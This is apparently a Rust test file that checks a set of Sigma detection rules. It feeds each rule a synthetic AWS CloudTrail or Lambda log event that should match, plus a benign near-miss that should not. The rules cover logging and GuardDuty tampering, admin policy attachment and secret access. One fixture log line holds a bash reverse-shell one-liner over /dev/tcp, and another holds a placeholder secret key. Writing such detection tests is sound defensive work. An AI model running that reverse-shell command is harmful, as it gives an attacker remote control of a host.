//! Every shipped Sigma rule loads, and each matches its positive event and not its near-miss negative
//! (the same service, a routine operation or a failed call). A rule added without cases fails here.

use detect::security::sigma::Target;
use detect::security::SigmaRules;
use serde_json::{json, Value};

fn ct(source: &str, name: &str, request: Value) -> Value {
    json!({
        "eventTime": "2024-08-01T10:00:00Z", "eventSource": source, "eventName": name, "awsRegion": "us-east-1",
        "sourceIPAddress": "203.0.113.9", "userAgent": "aws-cli/2.15.0",
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::123456789012:user/mallory", "accountId": "123456789012"},
        "requestParameters": request, "eventID": "e-1", "eventType": "AwsApiCall", "recipientAccountId": "123456789012"
    })
}

fn log(message: &str) -> Value {
    json!({"message": message, "level": "INFO", "function_name": "orders-api", "log_stream": "2024/08/01/[$LATEST]abc", "request_id": "r-1"})
}

fn failed(mut event: Value) -> Value {
    event["errorCode"] = json!("AccessDenied");
    event
}

/// (rule id, target, positive, negative)
fn cases() -> Vec<(&'static str, Target, Value, Value)> {
    use Target::{CloudTrail as C, LambdaLogs as L};
    vec![
        (
            "coldtrail-aws-config-recording-disabled",
            C,
            ct("config.amazonaws.com", "StopConfigurationRecorder", json!({"configurationRecorderName": "default"})),
            ct("config.amazonaws.com", "StartConfigurationRecorder", json!({"configurationRecorderName": "default"})),
        ),
        (
            "coldtrail-aws-ec2-instance-connect-key",
            C,
            ct(
                "ec2-instance-connect.amazonaws.com",
                "SendSSHPublicKey",
                json!({"instanceId": "i-1", "instanceOSUser": "ec2-user"}),
            ),
            ct("ec2.amazonaws.com", "DescribeInstances", json!({})),
        ),
        (
            "coldtrail-aws-ec2-user-data-read",
            C,
            ct("ec2.amazonaws.com", "DescribeInstanceAttribute", json!({"instanceId": "i-1", "attribute": "userData"})),
            ct(
                "ec2.amazonaws.com",
                "DescribeInstanceAttribute",
                json!({"instanceId": "i-1", "attribute": "instanceType"}),
            ),
        ),
        (
            "coldtrail-aws-guardduty-disruption",
            C,
            ct("guardduty.amazonaws.com", "DeleteDetector", json!({"detectorId": "d1"})),
            ct("guardduty.amazonaws.com", "GetDetector", json!({"detectorId": "d1"})),
        ),
        (
            "coldtrail-aws-iam-admin-policy-attached",
            C,
            ct(
                "iam.amazonaws.com",
                "AttachUserPolicy",
                json!({"userName": "x", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
            ),
            ct(
                "iam.amazonaws.com",
                "AttachUserPolicy",
                json!({"userName": "x", "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"}),
            ),
        ),
        (
            "coldtrail-aws-iam-login-profile-changed",
            C,
            ct("iam.amazonaws.com", "CreateLoginProfile", json!({"userName": "x"})),
            ct("iam.amazonaws.com", "GetLoginProfile", json!({"userName": "x"})),
        ),
        (
            "coldtrail-aws-lambda-log-credentials",
            L,
            log("env: AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG"),
            log("loaded 3 secrets from Secrets Manager"),
        ),
        (
            "coldtrail-aws-lambda-log-reverse-shell",
            L,
            log("exec: bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
            log("curl request to https://api.example.com took 120 ms"),
        ),
        (
            "coldtrail-aws-organizations-leave",
            C,
            ct("organizations.amazonaws.com", "LeaveOrganization", json!(null)),
            ct("organizations.amazonaws.com", "DescribeOrganization", json!(null)),
        ),
        (
            "coldtrail-aws-rolesanywhere-trust-anchor",
            C,
            ct("rolesanywhere.amazonaws.com", "CreateTrustAnchor", json!({"name": "x"})),
            ct("rolesanywhere.amazonaws.com", "ListTrustAnchors", json!({})),
        ),
        (
            "coldtrail-aws-dns-query-logging-deleted",
            C,
            ct(
                "route53resolver.amazonaws.com",
                "DeleteResolverQueryLogConfig",
                json!({"resolverQueryLogConfigId": "q1"}),
            ),
            ct("route53resolver.amazonaws.com", "ListResolverQueryLogConfigs", json!({})),
        ),
        (
            "coldtrail-aws-secrets-batch-retrieved",
            C,
            ct("secretsmanager.amazonaws.com", "BatchGetSecretValue", json!({"filters": []})),
            ct("secretsmanager.amazonaws.com", "GetSecretValue", json!({"secretId": "db"})),
        ),
        (
            "coldtrail-aws-sts-federation-token",
            C,
            ct("sts.amazonaws.com", "GetFederationToken", json!({"name": "x"})),
            ct("sts.amazonaws.com", "GetCallerIdentity", json!({})),
        ),
        (
            "coldtrail-aws-vpc-flow-logs-deleted",
            C,
            ct("ec2.amazonaws.com", "DeleteFlowLogs", json!({"flowLogIds": ["fl-1"]})),
            failed(ct("ec2.amazonaws.com", "DeleteFlowLogs", json!({"flowLogIds": ["fl-1"]}))),
        ),
    ]
}

#[test]
fn every_shipped_rule_matches_its_positive_and_not_its_negative() {
    let rules = SigmaRules::shipped();
    assert!(rules.skipped.is_empty(), "{:?}", rules.skipped);
    let cases = cases();
    for rule in rules.rules() {
        assert!(cases.iter().any(|c| c.0 == rule.id), "no positive/negative case for {}", rule.id);
        assert!(!rule.attack.is_empty(), "{} has no ATT&CK technique tag", rule.id);
    }
    assert_eq!(cases.len(), rules.len(), "a case names a rule that is not shipped");
    for (id, target, positive, negative) in cases {
        let hits: Vec<&str> = rules.matching(target, positive).iter().map(|r| r.id.as_str()).collect();
        assert!(hits.contains(&id), "{id} does not match its positive event (matched {hits:?})");
        let misses: Vec<&str> = rules.matching(target, negative).iter().map(|r| r.id.as_str()).collect();
        assert!(!misses.contains(&id), "{id} matches its negative event");
    }
}
